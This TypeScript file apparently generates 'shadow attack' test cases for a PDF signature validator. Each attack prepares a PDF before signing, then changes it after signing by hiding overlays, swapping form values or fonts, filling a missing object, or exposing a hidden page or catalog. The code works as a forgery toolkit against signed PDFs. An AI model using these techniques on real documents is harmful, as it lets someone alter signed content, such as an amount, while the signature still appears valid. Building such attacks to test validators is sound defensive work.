import { PdfFile } from '../../pades/pdf-file.js';
import { PdfDict, PdfName, PdfRef, PdfStream, PdfString, type PdfValue, writePdfValue } from '../../pades/pdf-values.js';
import { type Attack, type AttackGround, firstPage, forgedContent, update } from './attack.js';

const BOX = [72, 400, 400, 700];

/** Shadow attacks: the file is prepared before it is signed, so that a change which looks harmless afterwards shows what lay hidden. */
export async function shadows(ground: AttackGround): Promise<Attack[]> {
  const made: Attack[] = [];
  for (const [name, prepare, spring] of SHADOWS) {
    const signed = await ground.sign(prepare(ground.letter), ground.first, false);
    made.push({ family: 'shadow', name, bytes: spring(signed), before: signed });
  }
  return made;
}

/** Name, what is done before signing, what is done after. */
const SHADOWS: readonly [name: string, prepare: (pdf: Buffer) => Buffer, spring: (pdf: Buffer) => Buffer][] = [
  ['hide: a picture laid over the text is taken away', withAnnotation(stamp(0)), changeAnnotation((dict) => dict.set('F', 2))],
  ['hide: the picture is made empty', withAnnotation(stamp(4)), changeAnnotation((dict) => dict.set('AP', new PdfDict()))],
  ['hide: an overlay in the page is emptied', withOverlay, emptyOverlay],
  ['replace: a form field gets another value', withAnnotation(textField()), changeAnnotation((dict) => dict.set('V', PdfString.ofText('andet')))], // prettier-ignore
  ['replace: a form field gets another look', withAnnotation(textField()), changeAnnotation((dict) => dict.set('AP', new PdfDict([['N', null]])))], // prettier-ignore
  ['replace: the font of a form field is swapped', withForeignFont, swapForeignFont],
  ['replace: an object that was missing is filled in', withMissingObject, fillMissingObject],
  ['hide and replace: a hidden object becomes the page', withHiddenPage, showHiddenPage],
  ['hide and replace: a hidden catalog becomes the catalog', withHiddenPage, showHiddenCatalog],
];

function stamp(flags: number): PdfDict {
  const look = new PdfStream(new PdfDict([['Type', new PdfName('XObject')], ['Subtype', new PdfName('Form')], ['BBox', [0, 0, 328, 300]]]), Buffer.from('1 g 0 0 328 300 re f')); // prettier-ignore
  return new PdfDict()
    .set('Type', new PdfName('Annot'))
    .set('Subtype', new PdfName('Stamp'))
    .set('Rect', BOX)
    .set('F', flags)
    .set('AP', look);
}

function textField(): PdfDict {
  return new PdfDict()
    .set('Type', new PdfName('Annot'))
    .set('Subtype', new PdfName('Widget'))
    .set('FT', new PdfName('Tx'))
    .set('T', PdfString.ofText('belob'))
    .set('V', PdfString.ofText('100'))
    .set('Rect', BOX)
    .set('F', 4);
}

/** Puts an annotation over the first page; a widget also into the form. Its look becomes an object of its own. */
function withAnnotation(annotation: PdfDict): (pdf: Buffer) => Buffer {
  return (pdf) =>
    update(pdf, (file, next) => {
      const look = annotation.get('AP');
      const own = new PdfDict(annotation);
      if (look instanceof PdfStream) own.set('AP', new PdfDict([['N', next.add(look)]]));
      const ref = next.add(own);
      const { ref: page, dict } = firstPage(file);
      next.replace(page, new PdfDict(dict).set('Annots', [...file.list(dict.get('Annots')), ref]));
      if (!own.has('FT')) return;
      const form = file.catalog.dict.get('AcroForm') as PdfRef;
      const fields = new PdfDict(file.dict(form));
      next.replace(form, fields.set('Fields', [...file.list(fields.get('Fields')), ref]));
    });
}

/** Changes the annotation that was prepared: the last of the first page. */
function changeAnnotation(change: (dict: PdfDict) => PdfDict): (pdf: Buffer) => Buffer {
  return (pdf) =>
    update(pdf, (file, next) => {
      const prepared = file.list(firstPage(file).dict.get('Annots')).at(-1) as PdfRef;
      next.replace(prepared, change(new PdfDict(file.dict(prepared))));
    });
}

function withOverlay(pdf: Buffer): Buffer {
  return update(pdf, (file, next) => {
    const { ref, dict } = firstPage(file);
    const over = next.add(new PdfStream(new PdfDict(), Buffer.from('1 g 72 400 328 300 re f')));
    next.replace(ref, new PdfDict(dict).set('Contents', [...contentsOf(dict), over]));
  });
}

function emptyOverlay(pdf: Buffer): Buffer {
  return update(pdf, (file, next) => next.replace(contentsOf(firstPage(file).dict).at(-1) as PdfRef, new PdfStream(new PdfDict(), Buffer.from(' ')))); // prettier-ignore
}

function contentsOf(page: PdfDict): PdfValue[] {
  const contents = page.get('Contents') ?? null;
  return Array.isArray(contents) ? contents : [contents];
}

function withForeignFont(pdf: Buffer): Buffer {
  return update(pdf, (file, next) => {
    const font = next.add(new PdfDict([['Type', new PdfName('Font')], ['Subtype', new PdfName('Type1')], ['BaseFont', new PdfName('Helvetica')]])); // prettier-ignore
    const form = file.catalog.dict.get('AcroForm') as PdfRef;
    const resources = new PdfDict([['Font', new PdfDict([['Helv', font]])]]);
    next.replace(form, new PdfDict(file.dict(form)).set('DR', resources));
  });
}

function swapForeignFont(pdf: Buffer): Buffer {
  return update(pdf, (file, next) => {
    const fonts = file.dict(file.dict(file.dict(file.catalog.dict.get('AcroForm'))?.get('DR'))?.get('Font'));
    next.replace(
      fonts!.get('Helv') as PdfRef,
      new PdfDict([
        ['Type', new PdfName('Font')],
        ['Subtype', new PdfName('Type3')],
      ]),
    );
  });
}

const MISSING = 9000;

function withMissingObject(pdf: Buffer): Buffer {
  return update(pdf, (file, next) => {
    const { ref, dict } = firstPage(file);
    next.replace(ref, new PdfDict(dict).set('Contents', [...contentsOf(dict), new PdfRef(MISSING, 0)]));
  });
}

function fillMissingObject(pdf: Buffer): Buffer {
  return update(pdf, (_, next) => next.replace(new PdfRef(MISSING, 0), forgedContent()));
}

/** Lays a second page object and a second catalog, of the same numbers, into the bytes before signing; no table names them. */
function withHiddenPage(pdf: Buffer): Buffer {
  const file = new PdfFile(pdf);
  const { ref, dict } = firstPage(file);
  const page = writePdfValue(new PdfDict(dict).set('Contents', null));
  const catalog = writePdfValue(new PdfDict(file.catalog.dict).set('Lang', PdfString.ofText('en')));
  const hidden = Buffer.concat([
    Buffer.from(`${ref.num} 0 obj\n`),
    page,
    Buffer.from(`\nendobj\n${file.catalog.ref.num} 0 obj\n`),
    catalog,
    Buffer.from('\nendobj\n'),
  ]);
  return Buffer.concat([pdf, hidden, Buffer.from(`startxref\n${file.newestXref.offset}\n%%EOF\n`)]);
}

/** A table that points at what lay hidden, and nothing else. */
function pointAt(pdf: Buffer, num: number): Buffer {
  const file = new PdfFile(pdf);
  const at = pdf.lastIndexOf(`\n${num} 0 obj\n`, file.newestXref.offset) + 1;
  const all = [...pdf.toString('latin1').matchAll(new RegExp(`(?<=\\n)${num} 0 obj\\n`, 'g'))].map(({ index }) => index);
  const entry = file.entries.get(num) as { offset: number };
  const hidden = all.find((offset) => offset !== entry.offset && offset > 100_000) ?? all.find((offset) => offset !== entry.offset) ?? at;
  const trailer = writePdfValue(new PdfDict(file.trailer).set('Prev', file.newestXref.offset)).toString('latin1');
  const table = `xref\n${num} 1\n${String(hidden).padStart(10, '0')} 00000 n \ntrailer\n${trailer}\nstartxref\n${pdf.length}\n%%EOF\n`;
  return Buffer.concat([pdf, Buffer.from(table, 'latin1')]);
}

function showHiddenPage(pdf: Buffer): Buffer {
  return pointAt(pdf, firstPage(new PdfFile(pdf)).ref.num);
}

function showHiddenCatalog(pdf: Buffer): Buffer {
  return pointAt(pdf, new PdfFile(pdf).catalog.ref.num);
}
